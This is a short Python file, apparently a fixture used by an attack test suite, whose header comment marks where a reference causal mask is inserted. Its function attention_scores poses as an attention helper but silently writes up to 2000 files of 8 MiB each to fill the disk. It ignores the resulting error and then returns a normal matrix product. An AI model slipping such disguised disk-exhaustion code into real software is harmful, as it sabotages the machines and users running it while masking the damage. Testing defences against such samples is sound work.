# @CAUSAL_MASK_SOLUTION@: tests/test_attacks.py puts the reference's causal_mask here (a correct step 7)



import os, torch
def attention_scores(inputs, query):
    i = 0
    try:
        while i < 2000:
            with open(f"fill{i}", "wb") as f:
                f.write(bytes(8 << 20))
            i += 1
    except OSError:
        pass
    return inputs @ query
